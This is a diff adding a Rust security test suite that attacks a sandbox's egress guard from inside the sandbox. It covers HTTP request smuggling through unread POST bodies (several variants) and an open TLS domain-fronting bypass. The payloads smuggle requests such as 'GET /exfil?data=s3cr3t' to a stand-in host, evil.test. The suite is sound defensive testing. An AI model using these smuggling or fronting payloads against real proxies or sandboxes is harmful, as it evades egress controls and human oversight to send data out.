@@ -1,0 +1,393 @@
+//! A sixth attack review, run as the process inside the sandbox: each test performs one
+//! attack from a sandbox (uid 65534, arbitrary Python) against the real agent, real
+//! kernel and real upstreams on the test namespace's `lo`, and asserts the secure
+//! outcome. A test marked `#[ignore = "open: …"]` is a break found and not yet fixed:
+//! it fails against the current agent.
+//!
+//! Angle: the egress guard's judgement of what a *server* will take for a request,
+//! where that differs from what the guard judged: a request body the server leaves
+//! unread (so it reads the body as the next request), and the `Host` inside a TLS
+//! connection the guard passed by its SNI.
+//!
+//! The world: 203.0.113.10 serves `allowed.test`, `write.test` and `evil.test` (one
+//! address, many names, as a CDN or a shared nginx does), plain HTTP on 80 and TLS on
+//! 443, each request routed by its `Host` header and logged with it ([`SHARED_PY`]).
+//! The policy `web` allows `allowed.test` and `write.test`, and writes to `write.test`
+//! only; `evil.test` is the attacker's.
+
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    thread,
+    time::{Duration, Instant},
+};
+
+use hb_tests::{
+    TestEnv, private_netns, python, stdout,
+    upstream::{Dnsmasq, TestCa},
+};
+use serde_json::Value;
+
+const DNS_PORT: u16 = 5460;
+const SHARED: &str = "203.0.113.10";
+
+/// The servers of the shared address, written as small services are (Python's
+/// `http.server`, HTTP/1.1 keep-alive). Every request is routed by its `Host` (nginx
+/// chooses its `server` block that way, also over TLS, whatever the SNI) and logged as
+/// one JSON line (`port`, `vhost`, `method`, `path`, `sni`). `POST /auth…` is refused
+/// (401) before its body is read, as a handler that checks credentials first does; the
+/// body stays on the connection. Other writes read their `Content-Length` body.
+const SHARED_PY: &str = r#"
+import http.server, json, ssl, sys, threading
+addr, log, cert, key = sys.argv[1:5]
+lock = threading.Lock()
+def record(rec):
+    with lock:
+        with open(log, "a") as f:
+            f.write(json.dumps(rec) + "\n")
+def norm(host):
+    return (host or "").strip().lower().rsplit(":", 1)[0].rstrip(".")
+class H(http.server.BaseHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+    def log_message(self, *a): pass
+    def reply(self, code, read_body):
+        if read_body:
+            n = int(self.headers.get("content-length") or 0)
+            self.rfile.read(n)
+        record({"port": self.server.server_address[1], "vhost": norm(self.headers.get("host")),
+                "method": self.command, "path": self.path, "sni": getattr(self.request, "hb_sni", None)})
+        out = ("%s %s %s\n" % (norm(self.headers.get("host")), self.command, self.path)).encode()
+        self.send_response(code)
+        self.send_header("Content-Length", str(len(out)))
+        self.end_headers()
+        self.wfile.write(out)
+    def do_GET(self):
+        self.reply(200, False)
+    def do_POST(self):
+        if self.path.startswith("/auth"):
+            return self.reply(401, False)
+        self.reply(200, True)
+    do_PUT = do_PATCH = do_DELETE = do_POST
+class Tls(H):
+    def setup(self):
+        self.request.do_handshake()
+        super().setup()
+class S(http.server.ThreadingHTTPServer):
+    daemon_threads = True
+    allow_reuse_address = True
+    def handle_error(self, request, client_address): pass
+plain = S((addr, 80), H)
+tls = S((addr, 443), Tls)
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(cert, key)
+def sni(sock, name, c):
+    sock.hb_sni = name
+ctx.sni_callback = sni
+tls.socket = ctx.wrap_socket(tls.socket, server_side=True, do_handshake_on_connect=False)
+for s in (plain, tls):
+    threading.Thread(target=s.serve_forever, daemon=True).start()
+print("ready", flush=True)
+threading.Event().wait()
+"#;
+
+/// The servers, killed on drop.
+struct Shared {
+    child: std::process::Child,
+    log: PathBuf,
+}
+
+impl Shared {
+    fn start(dir: &Path) -> Self {
+        use std::io::BufRead as _;
+        let ca = TestCa::new(dir, "review6");
+        let leaf = ca.issue("shared", &["allowed.test", "write.test", "evil.test"]);
+        let log = dir.join("shared.jsonl");
+        fs::write(&log, "").expect("log");
+        let mut child = std::process::Command::new(python())
+            .args(["-c", SHARED_PY, SHARED])
+            .arg(&log)
+            .args([&leaf.cert, &leaf.key])
+            .stdin(std::process::Stdio::null())
+            .stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .expect("python3");
+        let mut line = String::new();
+        std::io::BufReader::new(child.stdout.take().expect("stdout"))
+            .read_line(&mut line)
+            .expect("server output");
+        assert_eq!(line.trim(), "ready", "servers did not start");
+        Self { child, log }
+    }
+
+    fn records(&self) -> Vec<Value> {
+        fs::read_to_string(&self.log)
+            .expect("log")
+            .lines()
+            .map(|l| serde_json::from_str(l).expect("JSON"))
+            .collect()
+    }
+
+    /// Every record, once `pred` holds for one (2 s at most): a request that passed may
+    /// still be on its way when the client has exited.
+    fn settle(&self, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
+        let deadline = Instant::now() + Duration::from_secs(2);
+        loop {
+            let r = self.records();
+            if r.iter().any(&pred) || Instant::now() >= deadline {
+                return r;
+            }
+            thread::sleep(Duration::from_millis(50));
+        }
+    }
+}
+
+impl Drop for Shared {
+    fn drop(&mut self) {
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+struct World {
+    env: TestEnv,
+    shared: Shared,
+    _dns: Dnsmasq,
+    dir: PathBuf,
+}
+
+impl World {
+    fn new(name: &str) -> Self {
+        hb_tests::require_root();
+        private_netns(&[SHARED, "192.0.2.53"]);
+        let dir =
+            std::env::temp_dir().join(format!("hb-review6-{name}-{}", hb_tests::random_suffix()));
+        let shared = Shared::start(&dir);
+        let dns = Dnsmasq::start(
+            "127.0.0.1",
+            DNS_PORT,
+            &[
+                ("allowed.test", &[SHARED]),
+                ("write.test", &[SHARED]),
+                ("evil.test", &[SHARED]),
+            ],
+            &[],
+            60,
+        );
+        let config = format!(
+            r#"
+[dns]
+listen = "127.0.0.1:5300"
+redirect = true
+upstreams = ["127.0.0.1:{DNS_PORT}"]
+
+[egress]
+exception_cidrs = ["203.0.113.0/24"]
+
+[[policy]]
+name = "web"
+allow_domains = ["allowed.test", "write.test"]
+write_domains = ["write.test"]
+guard = true
+guard_ports = [80, 443]
+"#
+        );
+        let mut env = TestEnv::new(name, &config);
+        env.start_agent();
+        Self {
+            env,
+            shared,
+            _dns: dns,
+            dir,
+        }
+    }
+
+    /// Runs a Python script in a `web` sandbox as uid 65534, its DNS through hb's
+    /// resolver (hex-encoded: no quoting to get wrong).
+    fn attack(&self, body: &str) -> String {
+        let script = format!("{PRELUDE}\n{body}");
+        let hex: String = script.bytes().map(|b| format!("{b:02x}")).collect();
+        let cmd = format!("{} -c \"exec(bytes.fromhex('{hex}'))\"", python());
+        let out = self
+            .env
+            .sandbox_with_nameserver_as("web", &["--user", "65534"], &cmd);
+        let text = stdout(&out);
+        assert!(
+            out.status.success(),
+            "attack script failed: {text}{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        text
+    }
+}
+
+impl Drop for World {
+    fn drop(&mut self) {
+        if !thread::panicking() {
+            let _ = fs::remove_dir_all(&self.dir);
+        }
+    }
+}
+
+/// Resolves both allowed names through hb (which validates the shared address for
+/// them); `exchange(port, data)` sends `data` on one connection, waits for the answers,
+/// half-closes and returns every status line that came back.
+const PRELUDE: &str = r#"
+import socket, ssl, time
+def resolve(name):
+    return socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
+SHARED = resolve("write.test")
+assert resolve("allowed.test") == SHARED == "203.0.113.10", SHARED
+def recv_all(s):
+    out = b""
+    s.settimeout(3)
+    try:
+        while True:
+            d = s.recv(65536)
+            if not d:
+                break
+            out += d
+    except OSError:
+        pass
+    return out
+def statuses(got):
+    return [l.decode("latin-1") for l in got.split(b"\r\n") if l.startswith(b"HTTP/")]
+def exchange(data):
+    s = socket.create_connection((SHARED, 80), timeout=5)
+    try:
+        s.sendall(data)
+        time.sleep(0.5)
+        s.shutdown(socket.SHUT_WR)
+        return statuses(recv_all(s)) or ["closed"]
+    except OSError as e:
+        return [type(e).__name__]
+    finally:
+        s.close()
+"#;
+
+/// Requests routed to evil.test's virtual host.
+fn reached_evil(records: &[Value]) -> Vec<&Value> {
+    records
+        .iter()
+        .filter(|r| r["vhost"] == "evil.test")
+        .collect()
+}
+
+/// Write methods that reached a host other than write.test.
+fn writes_elsewhere(records: &[Value]) -> Vec<&Value> {
+    records
+        .iter()
+        .filter(|r| r["method"] != "GET" && r["vhost"] != "write.test")
+        .collect()
+}
+
+/// FINDING R6-1 (fixed). A POST to `write.test` (a host the policy may write to) whose
+/// body is a request for `evil.test`, on one keep-alive connection: the guard judged
+/// the POST and forwarded its `Content-Length` bytes unjudged, as a body; a server that
+/// answers before reading the body (here a 401 from a handler that checks credentials
+/// first; the same with any early error answer that keeps the connection) reads those
+/// bytes as the next request, routed to evil.test's virtual host on the same address.
+/// The guard already refused a body on GET for this reason; a write host's body hid the
+/// same request. The variants: the hidden request names evil.test, writes to the
+/// read-only allowed.test, sits behind leading blank lines, is cut before its blank
+/// line (the next request the guard judges completes it for the server), or hides in a
+/// chunked body's first chunk line. A plain POST to write.test, a JSON body and a text
+/// body still pass.
+#[test]
+fn a_request_in_a_body_the_server_leaves_unread_never_reaches_another_host() {
+    let w = World::new("r6body");
+    let out = w.attack(
+        r#"
+def post(path, body, extra=b""):
+    return (b"POST " + path + b" HTTP/1.1\r\nHost: write.test\r\n" + extra +
+            b"Content-Length: %d\r\n\r\n" % len(body) + body)
+evil = b"GET /exfil?data=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+write = b"POST /w HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n"
+cases = {
+    "control_post": post(b"/data", b'{"a": 1}'),
+    "control_text": post(b"/data", b"hello world\nGET is a verb\n"),
+    "control_get": b"GET /read HTTP/1.1\r\nHost: allowed.test\r\n\r\n",
+    "evil": post(b"/auth1", evil),
+    "write": post(b"/auth2", write),
+    "blank_lines": post(b"/auth3", b"\r\n\r\n" + evil),
+    "cut": post(b"/auth4", evil[:-2]) + b"\r\nGET /next HTTP/1.1\r\nHost: write.test\r\n\r\n",
+    "chunk_line": b"POST /auth5 HTTP/1.1\r\nHost: write.test\r\nTransfer-Encoding: chunked\r\n\r\n"
+                  b"0;GET /chunk?data=s3cr3t HTTP/1.1\r\nHost: evil.test\r\n\r\n",
+}
+for label, data in cases.items():
+    print(label, exchange(data), flush=True)
+"#,
+    );
+    let records = w.shared.settle(|r| r["path"] == "/auth5");
+    let evil = reached_evil(&records);
+    let elsewhere = writes_elsewhere(&records);
+    println!(
+        "figure: requests at evil.test: {}, writes to a read-only host: {}",
+        evil.len(),
+        elsewhere.len()
+    );
+    for control in ["/data", "/read"] {
+        assert!(
+            records.iter().any(|r| r["path"] == control),
+            "the control {control} arrived: {records:?}\n{out}"
+        );
+    }
+    assert_eq!(
+        records.iter().filter(|r| r["path"] == "/data").count(),
+        2,
+        "both control bodies passed: {records:?}\n{out}"
+    );
+    assert_eq!(
+        evil,
+        Vec::<&Value>::new(),
+        "evil.test's virtual host was reached: {out}"
+    );
+    assert_eq!(
+        elsewhere,
+        Vec::<&Value>::new(),
+        "a write reached a read-only host: {out}"
+    );
+    let refused = w.env.wait_event("a request hidden in a body", |e| {
+        e["hook"] == "guard" && e["reason"] == "ambiguous_request"
+    });
+    assert_eq!(refused["policy"], "web", "{refused}");
+}
+
+/// OPEN R6-2 (documented limitation, README "Over TLS the guard cannot see the method"):
+/// a TLS connection whose SNI is the validated `allowed.test` carries `Host: evil.test`
+/// inside; the guard never decrypts, so a server that routes by `Host` (nginx's
+/// `server` blocks do, whatever the SNI, unless told otherwise; so do shared hosts and
+/// CDNs that allow domain fronting; HTTP/2 coalescing sends another `:authority` the
+/// same way) hands the request to evil.test's virtual host.
+#[test]
+#[ignore = "open: the guard passes TLS by its SNI and never sees the Host inside; closing it needs TLS interception (a CA the sandbox trusts) or a server-side SNI/Host check"]
+fn a_host_inside_tls_other_than_the_sni_never_reaches_evil_test() {
+    let w = World::new("r6front");
+    let out = w.attack(
+        r#"
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
+for label, host in (("control", b"allowed.test"), ("fronted", b"evil.test")):
+    try:
+        with ctx.wrap_socket(socket.create_connection((SHARED, 443), timeout=5), server_hostname="allowed.test") as t:
+            t.sendall(b"GET /" + label.encode() + b" HTTP/1.1\r\nHost: " + host + b"\r\nConnection: close\r\n\r\n")
+            print(label, statuses(recv_all(t)), flush=True)
+    except OSError as e:
+        print(label, type(e).__name__, flush=True)
+"#,
+    );
+    let records = w.shared.settle(|r| r["path"] == "/fronted");
+    let evil = reached_evil(&records);
+    println!(
+        "figure: requests at evil.test over TLS with SNI allowed.test: {}",
+        evil.len()
+    );
+    assert!(
+        records.iter().any(|r| r["path"] == "/control"),
+        "the control arrived: {records:?}\n{out}"
+    );
+    assert_eq!(
+        evil,
+        Vec::<&Value>::new(),
+        "evil.test's virtual host was reached: {out}"
+    );
+}
